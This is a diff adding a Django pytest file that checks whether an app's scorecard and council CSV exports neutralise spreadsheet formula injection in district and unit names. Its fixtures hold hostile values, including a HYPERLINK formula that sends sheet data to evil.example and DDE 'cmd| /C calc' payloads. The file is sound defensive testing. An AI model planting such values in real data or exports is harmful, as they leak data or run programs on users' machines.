@@ -1,0 +1,88 @@
+"""Issue 9 attacked: hostile names in the oversight's outputs (the scorecards' CSV files, the Atom
+feeds), the largest inputs the oversight APIs accept, and who sees which district's numbers. The
+offline export's page in Chromium: tests/test_oversight_attack_browser.py."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.test import Client
+
+from districts.models import District, ServiceArea
+from issues.models import Report
+from tests.conftest import STAFF_PASSWORD
+from tests.test_hotspots import city_reports  # noqa: F401  (a fixture)
+
+# ruff: noqa: F811  (the fixture imported above, named as a test's argument)
+
+pytestmark = pytest.mark.django_db
+
+# Names an import or the admin could give a district or a unit; each would be a live formula in a
+# spreadsheet (HYPERLINK sends the sheet's data away, cmd| runs a program in old Excel).
+FORMULAS = {
+    "R1": '=HYPERLINK("//evil.example/?leak="&A1,"ok")',
+    "R2": "+cmd|' /C calc'!A0",
+    "S11": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+UNIT_FORMULA = "-2+3+cmd|' /C calc'!A0"
+TAB_FORMULA = "\t=1+1"
+
+
+def _client(user=None) -> Client:
+    client = Client()
+    if user is not None:
+        assert client.login(username=user.username, password=STAFF_PASSWORD)
+    return client
+
+
+def _sheet(response) -> list[dict[str, str]]:
+    assert response.status_code == 200, response.content[:300]
+    assert response["Content-Type"].startswith("text/csv")
+    raw = response.content
+    # Excel reads a file without a byte-order mark as Latin-1: the Persian names become gibberish.
+    assert raw.startswith(b"\xef\xbb\xbf")
+    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+
+
+def _no_formula(rows: list[dict[str, str]]) -> None:
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
+            if value.startswith("-"):
+                float(value)  # a negative number, not text
+
+
+@pytest.fixture
+def hostile_names(city, city_reports):
+    for code, name in FORMULAS.items():
+        District.objects.filter(code=code).update(name_fa=name, name_en=name)
+    unit = ServiceArea.objects.get(code="roads-r1")
+    Report.objects.filter(district__code="R1").update(service_area=unit)
+    ServiceArea.objects.filter(pk=unit.pk).update(unit_name_fa=UNIT_FORMULA, unit_name_en=TAB_FORMULA)
+    return city
+
+
+def test_public_scorecard_csv_shows_hostile_names_as_text(hostile_names):
+    client = _client()
+    districts = _sheet(client.get("/api/scorecards/districts/", {"format": "csv"}))
+    names = {row["code"]: row["name_fa"] for row in districts}
+    assert {"R1", "R2"} <= set(names)
+    for code, name in FORMULAS.items():
+        if code in names:
+            assert names[code] == "'" + name  # shown as typed, never run
+    _no_formula(districts)
+    units = _sheet(client.get("/api/scorecards/units/", {"format": "csv"}))
+    unit = next(row for row in units if row["code"] == "roads-r1")
+    assert unit["name_fa"] == "'" + UNIT_FORMULA and unit["name_en"] == "'" + TAB_FORMULA
+    _no_formula(units)
+    _no_formula(_sheet(client.get("/api/scorecards/trends/", {"format": "csv"})))
+
+
+@pytest.mark.parametrize("table", ["districts", "units", "weeks", "months"])
+def test_council_csv_shows_hostile_names_as_text(hostile_names, staff, table):
+    rows = _sheet(_client(staff.council).get("/council/", {"format": "csv", "table": table}))
+    _no_formula(rows)
+    if table == "districts":
+        assert {row["name_en"] for row in rows} >= {"'" + FORMULAS["R1"], "'" + FORMULAS["R2"]}
